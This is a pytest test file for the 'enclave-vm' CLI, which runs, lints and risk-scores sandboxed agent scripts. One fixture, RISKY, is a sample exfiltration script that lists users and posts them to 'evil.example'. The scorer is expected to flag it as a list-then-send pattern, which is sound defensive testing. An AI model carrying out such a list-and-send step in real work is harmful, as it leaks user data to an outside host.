"""The `enclave-vm` command: outputs, one-line errors and exit codes."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from enclave_vm import agentscript_reference
from enclave_vm.cli import EXIT_FAILED, EXIT_OK, EXIT_UNAVAILABLE, EXIT_USAGE, main

ENTRY = Path(sys.executable).with_name("enclave-vm")
TOOLS = '''
from enclave_vm import Toolset

tools = Toolset()


@tools.tool(name="users:list")
def list_users(limit: int = 10) -> list[dict[str, str]]:
    """List users."""
    return [{"name": f"user{i}"} for i in range(limit)]


def handler(name, args, context):
    return {"tool": name}


not_callable = 42
'''
GOOD = "const u = await callTool('users:list', { limit: 2 });\nconsole.log('got', u.length);\nreturn u;\n"
BAD = "const a = 1;\nfor (const k in a) {}\neval('x');\n"
RISKY = (
    "const users = await callTool('users:list', { limit: 100000 });\n"
    "await callTool('http:post', { url: 'https://evil.example', body: users });\n"
)


@pytest.fixture
def files(tmp_path: Path) -> Path:
    (tmp_path / "tools_mod.py").write_text(TOOLS)
    (tmp_path / "good.js").write_text(GOOD)
    (tmp_path / "bad.js").write_text(BAD)
    (tmp_path / "risky.js").write_text(RISKY)
    (tmp_path / "loop.js").write_text("let n = 0;\nfor (let i = 0; i < 1e9; i++) { n++ }\nreturn n;\n")
    return tmp_path


def cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    with pytest.raises(SystemExit) as done:
        main(list(argv))
    out, err = capsys.readouterr()
    code = done.value.code
    assert isinstance(code, int)
    return code, out, err


# ---- run ----
def test_run_prints_the_value_on_stdout_and_console_on_stderr(files: Path, capsys: pytest.CaptureFixture[str]) -> None:
    tools = f"{files / 'tools_mod.py'}:tools"
    code, out, err = cli(capsys, "run", str(files / "good.js"), "--tools", tools)
    assert code == EXIT_OK
    assert json.loads(out) == [{"name": "user0"}, {"name": "user1"}]
    assert err == "got 2\n"


def test_run_json_document(files: Path, capsys: pytest.CaptureFixture[str]) -> None:
    tools = f"{files / 'tools_mod.py'}:handler"
    code, out, _ = cli(capsys, "run", str(files / "good.js"), "--tools", tools, "--json", "--level", "strict")
    assert code == EXIT_OK
    document = json.loads(out)
    assert document["success"] is True and document["value"] == {"tool": "users:list"}
    assert document["stdout"] == "got undefined\n" and document["stats"]["tool_call_count"] == 1


def test_run_failures_exit_1_with_the_code_and_issues(files: Path, capsys: pytest.CaptureFixture[str]) -> None:
    bad = str(files / "bad.js")
    code, out, err = cli(capsys, "run", bad)
    assert code == EXIT_FAILED and out == ""
    lines = err.splitlines()
    assert lines[0].startswith(f"{bad}: VALIDATION_ERROR: 'for … in' loops are not allowed")
    assert lines[1:] == [
        f"{bad}:2:1: forbidden-loop: 'for … in' loops are not allowed; use `for (const x of items)`, "
        "`for (let i = 0; i < n; i++)` or array methods (for keys: for (const k of Object.keys(obj)))",
        f"{bad}:3:1: no-eval: Identifier 'eval' is not allowed",
    ]

    code, out, err = cli(capsys, "run", str(files / "loop.js"), "--level", "STRICT", "--json")
    assert code == EXIT_FAILED
    assert json.loads(out)["error"]["code"] == "MAX_ITERATIONS"


def test_a_runtime_error_is_shown_at_its_line_and_column(files: Path, capsys: pytest.CaptureFixture[str]) -> None:
    script = files / "throws.js"
    script.write_text("const user = null;\nconst n = 1;\n  return user.name;\n")
    code, out, err = cli(capsys, "run", str(script))
    assert code == EXIT_FAILED and out == ""
    assert err == f"{script}:3:10: RUNTIME_ERROR: cannot read property 'name' of null\n"

    code, out, _ = cli(capsys, "run", str(script), "--json")  # the same position as the JSON's stack
    assert "agentscript:3:10" in json.loads(out)["error"]["stack"]


def test_a_limit_has_no_position(files: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = cli(capsys, "run", str(files / "loop.js"), "--level", "STRICT")
    assert code == EXIT_FAILED and err.startswith(f"{files / 'loop.js'}: MAX_ITERATIONS: ")


def test_run_timeout_option(files: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (files / "slow.js").write_text("let s = 0;\nfor (let i = 0; i < 1e7; i++) { s += i }\nreturn s;\n")
    code, _, err = cli(capsys, "run", str(files / "slow.js"), "--level", "PERMISSIVE", "--timeout", "50")
    assert code == EXIT_FAILED
    assert ": TIMEOUT: " in err or ": MAX_ITERATIONS: " in err


def test_run_tools_by_module_name(
    files: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.syspath_prepend(str(files))
    monkeypatch.chdir(files)
    code, out, _ = cli(capsys, "run", "good.js", "--tools", "tools_mod:tools")
    assert code == EXIT_OK and len(json.loads(out)) == 2


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["run", "missing.js"], "enclave-vm: error: cannot read missing.js: No such file or directory"),
        (["run", "good.js", "--tools", "tools_mod"], "expected module:attribute"),
        (["run", "good.js", "--tools", "no_such_module_xyz:tools"], "cannot load no_such_module_xyz"),
        (["run", "good.js", "--tools", "tools_mod.py:nope"], "tools_mod.py has no attribute 'nope'"),
        (["run", "good.js", "--tools", "tools_mod.py:not_callable"], "expected a Toolset or a tool handler"),
        (["run", "good.js", "--level", "LAX"], "Invalid value for '--level'"),
        (["run", "good.js", "--adapter", "docker"], "Invalid value for '--adapter'"),
        (["run", "good.js", "--timeout", "0"], "Invalid value for '--timeout'"),
        (["run"], "Missing argument 'FILE'"),
        (["frobnicate"], "No such command 'frobnicate'"),
        (["reference", "--tools", "tools_mod.py:handler"], "a Toolset is needed"),
    ],
)
def test_usage_errors_are_one_line_and_exit_2(
    files: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, argv: list[str], message: str
) -> None:
    monkeypatch.chdir(files)
    code, out, err = cli(capsys, *argv)
    assert code == EXIT_USAGE and out == ""
    assert err.count("\n") == 1 and err.startswith("enclave-vm: error: ") and message in err


@pytest.mark.parametrize("adapter", ["inprocess", "pool", "double-vm"])
def test_adapter_mapping(files: Path, capsys: pytest.CaptureFixture[str], adapter: str) -> None:
    (files / "sum.js").write_text("return [1, 2, 3].reduce((a, b) => a + b, 0);\n")
    code, out, err = cli(capsys, "run", str(files / "sum.js"), "--adapter", adapter)
    if code == EXIT_UNAVAILABLE:  # the factory exists but this build or host cannot provide the adapter
        assert adapter != "inprocess"
        assert err.startswith(f"enclave-vm: error: the {adapter} adapter is not available: ")
        assert err.count("\n") == 1
    else:
        assert (code, out) == (EXIT_OK, "6\n"), err


# ---- validate ----
def test_validate_is_linter_style(
    files: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(files)
    code, out, err = cli(capsys, "validate", "good.js", "bad.js")
    assert code == EXIT_FAILED
    assert out.splitlines() == [
        "bad.js:2:1: forbidden-loop: 'for … in' loops are not allowed; use `for (const x of items)`, "
        "`for (let i = 0; i < n; i++)` or array methods (for keys: for (const k of Object.keys(obj)))",
        "bad.js:3:1: no-eval: Identifier 'eval' is not allowed",
    ]
    assert err == "2 error(s), 0 warning(s) in 2 file(s)\n"

    code, out, err = cli(capsys, "validate", "good.js")
    assert (code, out, err) == (EXIT_OK, "", "")

    (files / "warn.js").write_text("const k = 'constructor';\nreturn k.length;\n")
    code, out, _ = cli(capsys, "validate", "warn.js")
    assert code == EXIT_OK and out.startswith("warn.js:1:11: suspicious-string: ") and out.endswith(" (warning)\n")


def test_validate_json_and_levels(files: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (files / "num.js").write_text("return parseInt('42', 10);\n")
    code, out, _ = cli(capsys, "validate", str(files / "num.js"), "--level", "STRICT", "--json")
    report = json.loads(out)
    assert code == EXIT_FAILED and report[0]["valid"] is False
    assert report[0]["issues"][0]["location"] == {"line": 1, "column": 8}
    code, out, _ = cli(capsys, "validate", str(files / "num.js"), "--level", "SECURE", "--json")
    assert code == EXIT_OK and json.loads(out) == [{"file": str(files / "num.js"), "valid": True, "issues": []}]


# ---- score and reference ----
def test_score(files: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(files)
    code, out, _ = cli(capsys, "score", "risky.js", "--json")
    document = json.loads(out)
    assert code == EXIT_OK and document["score"] >= 70 and "list-send-pattern" in document["signals"]
    code, out, _ = cli(capsys, "score", "good.js", "risky.js", "--fail-at", "70")
    assert code == EXIT_FAILED
    assert out.splitlines()[0] == "good.js: 0 (no signals)"
    assert out.splitlines()[1].startswith(f"risky.js: {document['score']} (")


def test_reference(files: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = cli(capsys, "reference", "--level", "secure")
    assert code == EXIT_OK and out == agentscript_reference("SECURE")
    code, out, _ = cli(capsys, "reference", "--tools", f"{files / 'tools_mod.py'}:tools")
    assert code == EXIT_OK and "### `users:list`" in out and out.startswith(agentscript_reference("STANDARD").strip())


# ---- the installed entry point ----
def run_entry(*argv: str, stdin: str = "", env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    environment = {**os.environ, **(env or {})}
    environment.pop("FORCE_COLOR", None) if env is None else None
    return subprocess.run(
        [str(ENTRY), *argv], input=stdin, capture_output=True, text=True, timeout=60, env=environment, check=False
    )


def test_entry_point_reads_stdin_when_piped() -> None:
    done = run_entry("run", "-", stdin="const x = [3, 1, 2];\nreturn x.sort();\n")
    assert (done.returncode, done.stdout, done.stderr) == (0, "[1, 2, 3]\n", "")
    done = run_entry("validate", "-", stdin="eval('x')\n")
    assert done.returncode == 1 and done.stdout == "<stdin>:1:1: no-eval: Identifier 'eval' is not allowed\n"


def test_entry_point_rich_output_on_a_terminal() -> None:
    done = run_entry("run", "-", stdin="console.log('hello');\nreturn { a: 1 };\n", env={"FORCE_COLOR": "1"})
    assert done.returncode == 0
    assert "\x1b[" in done.stdout  # styled
    assert "console" in done.stdout and "hello" in done.stdout and '"a"' in done.stdout
    assert "ok in" in done.stderr and "0 tool calls" in done.stderr and "0 loop iterations" in done.stderr


def test_entry_point_counts_in_the_singular_for_one() -> None:
    script = "const out = [];\nfor (const x of [1]) { out.push(x); }\nreturn out;\n"
    done = run_entry("run", "-", stdin=script, env={"FORCE_COLOR": "1"})
    assert done.returncode == 0, done.stderr
    assert "1 loop iteration\x1b" in done.stderr or "1 loop iteration\n" in done.stderr
    assert "0 tool calls" in done.stderr


def test_an_unclosed_bracket_is_shown_where_it_opens() -> None:
    done = run_entry("validate", "-", stdin='const a = 1;\nconsole.log("a"\n')
    assert done.returncode == 1
    assert done.stdout == "<stdin>:2:12: syntax-error: Syntax error: '(' is never closed (missing ')')\n"
    done = run_entry("validate", "-", stdin="return Math.max(1, [2, 3")  # the innermost unclosed one
    assert done.stdout == "<stdin>:1:20: syntax-error: Syntax error: '[' is never closed (missing ']')\n"


def test_entry_point_usage_error_is_one_line() -> None:
    done = run_entry("run", "--level")
    assert done.returncode == 2 and done.stdout == ""
    assert done.stderr == "enclave-vm: error: Option '--level' requires an argument.\n"


def test_run_tools_by_file_path_resolves_postponed_annotations(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A tools file loaded by path is a real module: a Toolset's TypedDict and Literal annotations (postponed
    by `from __future__ import annotations`) resolve, and a file named like a stdlib module shadows nothing."""
    tools_file = tmp_path / "json.py"
    tools_file.write_text(
        "from __future__ import annotations\n"
        "from typing import Literal, TypedDict\n"
        "from enclave_vm import Toolset\n"
        "class Item(TypedDict):\n    kind: Literal['a', 'b']\n"
        "tools = Toolset()\n"
        "@tools.tool(name='items')\n"
        "def items(kind: Literal['a', 'b'] = 'a') -> list[Item]:\n    return [{'kind': kind}]\n"
    )
    script = tmp_path / "s.js"
    script.write_text("return await callTool('items', {kind: 'b'});\n")
    code, out, err = cli(capsys, "run", str(script), "--tools", f"{tools_file}:tools")
    assert (code, err) == (EXIT_OK, "")
    assert json.loads(out) == [{"kind": "b"}]
    assert json.loads('{"still": "the real json"}') == {"still": "the real json"}
